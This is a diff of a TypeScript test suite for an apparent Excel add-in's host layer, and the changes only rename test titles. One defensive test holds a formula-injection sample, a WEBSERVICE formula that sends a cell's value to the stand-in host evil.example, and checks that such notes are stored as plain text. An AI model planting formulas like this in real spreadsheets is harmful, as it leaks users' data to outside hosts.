@@ -274,7 +274,7 @@ describe("officeHost", () => {
     expect(host.displayLanguage()).toBe("zh-CN");
   });
 
-  it("issue 21 item 1: reads the assumptions table the scenario's formulas point at, by readAssumptions, refusals included", async () => {
+  it("reads the assumptions table the scenario's formulas point at, by readAssumptions, refusals included", async () => {
     const workbook = templateWorkbook();
     const table = (elasticity: number) => sheetAsRows(assumptionsSheet()).slice(0, ASSUMPTION_TABLE.length + 1).map((row) => [row[0], row[0] === "cpm_elasticity" ? elasticity : row[1]]);
     // An inserted scenario reading its own table, on a sheet whose name needs quotes.
@@ -369,7 +369,7 @@ describe("officeHost", () => {
     expect(written.cleared).toEqual(["Minefields"]);
   });
 
-  it("issue 14 item 7: writes a note that starts with = (or +, -, a number) as text, never as a formula", async () => {
+  it("writes a note that starts with = (or +, -, a number) as text, never as a formula", async () => {
     const { excel, written } = mockExcel(templateWorkbook(), "Growth");
     (globalThis as Record<string, unknown>).Excel = excel;
     const hostile = '=WEBSERVICE("http://evil.example/?"&Growth!B4)';
@@ -406,7 +406,7 @@ describe("officeHost", () => {
     );
   });
 
-  it("issue 14 items 8–9: never writes into or replaces a sheet the pane did not make, whatever its case", async () => {
+  it("never writes into or replaces a sheet the pane did not make, whatever its case", async () => {
     const workbook = templateWorkbook();
     workbook.Minefields = { A1: [["my own notes"]] };
     const { excel, written } = mockExcel(workbook, "Growth");
@@ -421,7 +421,7 @@ describe("officeHost", () => {
     expect(Object.keys(written.values)).toEqual([]);
   });
 
-  it("issue 14 item 11: a binding made with the sheet's id follows the sheet when it is renamed", async () => {
+  it("a binding made with the sheet's id follows the sheet when it is renamed", async () => {
     const workbook = templateWorkbook();
     workbook["Plan 2027"] = { B2: [[300_000]], B3: [[450_000]] };
     const { excel, rename, idOf } = mockExcel(workbook, "Summary");
@@ -536,7 +536,7 @@ describe("officeHost", () => {
     expect(styled).toBeGreaterThan(40);
   });
 
-  it("issue 21 item 7: keeps the Summary on the scenario sheets there are — a copy and a renamed sheet listed, a deleted one's row emptied — writing names as text", async () => {
+  it("keeps the Summary on the scenario sheets there are — a copy and a renamed sheet listed, a deleted one's row emptied — writing names as text", async () => {
     // Column A and the header row of each sheet, as keepSummary reads them.
     const scenarioColumn = columnsAI(scenarioSheet(growth)).map(([a]) => [a]);
     const scenarioSheetCells = { "A1:A100": scenarioColumn, [SUMMARY_HEADER_ROW]: [Array(SUMMARY_HEADERS.length).fill(null)], ...headerRowAsRead(scenarioSheet(growth)) };
